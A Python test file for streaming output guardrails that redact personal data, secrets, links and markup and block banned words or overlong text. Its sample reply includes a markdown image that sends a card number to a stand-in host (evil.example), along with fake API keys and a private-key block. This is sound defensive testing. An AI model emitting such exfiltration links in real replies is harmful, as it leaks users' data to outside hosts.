"""What is shown of a text while it is written."""

from __future__ import annotations

import asyncio
import random
from collections.abc import Callable, Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ragweave.evals.kit.check.finding import texts
from ragweave.orchestrator.guardrails.check import Check, Subject
from ragweave.orchestrator.guardrails.holding import STEP, Held, shown
from ragweave.orchestrator.guardrails.links import Links
from ragweave.orchestrator.guardrails.markup import Invisible, Markup
from ragweave.orchestrator.guardrails.pii.check import Pii
from ragweave.orchestrator.guardrails.screening import screen
from ragweave.orchestrator.guardrails.secrets import Secrets
from ragweave.orchestrator.guardrails.wording import Length, Words

REPLY = """Dear Jo, your order is on its way. <b>Write</b> to jo@example.org or call +44 20 7946 0958, then see
[the tracking](https://evil.example/t?a=jo) ![x](https://evil.example/p.png?q=4111111111111111).
The key is sk-abcdefghijklmnopqrstuvwx, the card 4111 1111 1111 1111 and again jo@example.org.
It is damn late\u200b, sorry.
"""
FAULTY = [*REPLY.splitlines(), "password = 'hunter22'", "-----BEGIN PRIVATE KEY-----\nabc\n-----END PRIVATE KEY-----"]


def edits() -> dict[str, Check]:
    """Checks that change a text."""
    return {"pii": Pii(), "secrets": Secrets(), "links": Links(), "markup": Markup(), "invisible": Invisible()}


def blocks() -> dict[str, Check]:
    """The same, and two that block."""
    return {**edits(), "words": Words(words=["damn"]), "length": Length(max_chars=220)}


async def piecewise(checks: dict[str, Check], pieces: Sequence[str]) -> tuple[str, Held, int]:
    """What is shown of a text in pieces, and how many characters of it were held back at most."""
    held = Held(checks, Subject())
    given, fed, late = "", 0, 0
    for piece in pieces:
        given += await held.feed(piece)
        fed += len(piece)
        late = max(late, 0 if held.ended else fed - held.decided)
    return given + await held.end(), held, late


def cut(text: str, lot: random.Random) -> list[str]:
    places = sorted(lot.randint(0, len(text)) for _ in range(lot.randint(0, 12)))
    return [text[begin:end] for begin, end in zip([0, *places], [*places, len(text)], strict=True)]


async def same_however_cut(checks: dict[str, Check], tries: int) -> int:
    """Check texts in random pieces against the same texts whole; gives how many were tried."""
    window = max(check.window or 0 for check in checks.values())
    lot, count = random.Random(11), 0
    for text in (REPLY, *texts(FAULTY, 60)):
        whole = await shown(checks, text, Subject())
        for _ in range(tries):
            given, held, late = await piecewise(checks, cut(text, lot))
            assert given == whole.text
            assert (held.verdict, held.hidden) == (whole.verdict, whole.hidden)
            assert late <= window
            count += 1
    return count


@pytest.mark.parametrize("make", [edits, blocks])
async def test_any_cut_shows_the_same(make: Callable[[], dict[str, Check]]) -> None:
    assert await same_however_cut(make(), 8) > 500


@pytest.mark.long
@pytest.mark.parametrize("make", [edits, blocks])
async def test_ten_thousand_cuts_show_the_same(make: Callable[[], dict[str, Check]]) -> None:
    assert await same_however_cut(make(), 150) > 10_000


async def test_what_passes_is_the_text_after_its_checks() -> None:
    checks = edits()
    for text in (REPLY, *texts(FAULTY, 60)):
        screened = await screen(checks, text, Subject())
        whole = await shown(checks, text, Subject())
        assert screened.verdict.passed
        assert (whole.text, whole.hidden) == (screened.text, screened.hidden)


async def test_what_is_blocked_is_shown_up_to_there() -> None:
    whole = await shown({"words": Words(words=["damn"]), "pii": Pii()}, "Write to a@b.org, damn it.", Subject())
    assert whole.text == "Write to [EMAIL_ADDRESS_1], "
    assert (whole.verdict.passed, whole.verdict.action) == (False, "block")


async def test_a_check_that_needs_the_whole_text_shows_nothing_of_one_that_is_blocked() -> None:
    checks: dict[str, Check] = {"words": Words(words=["damn"]), "short": Length(min_chars=2)}
    given, held, _ = await piecewise(checks, ["It is ", "damn", " late."])
    assert (given, held.verdict.passed) == ("", False)
    given, held, _ = await piecewise(checks, ["It is ", "late."])
    assert (given, held.verdict.passed) == ("It is late.", True)


async def test_words_without_numbers_are_not_held_back_for_long() -> None:
    held = Held(edits(), Subject())
    given = ""
    text = "Whisk the eggs with the sugar until they are pale and fold in the flour. " * 20
    behind = []
    for word in text.split(" "):
        given += await held.feed(f"{word} ")
        behind.append(len(held.text) - len(given))
    assert max(behind) <= 2 * STEP + len(text) // 128
    assert (given + await held.end()).split() == text.split()


@given(st.text(alphabet="a1@. -<>[]()!/:\n", max_size=80), st.randoms(use_true_random=False))
@settings(max_examples=150, deadline=None)
def test_any_signs_in_any_pieces(text: str, lot: random.Random) -> None:
    async def run() -> None:
        given, held, _ = await piecewise(edits(), cut(text, lot))
        whole = await shown(edits(), text, Subject())
        assert (given, held.hidden) == (whole.text, whole.hidden)

    asyncio.run(run())
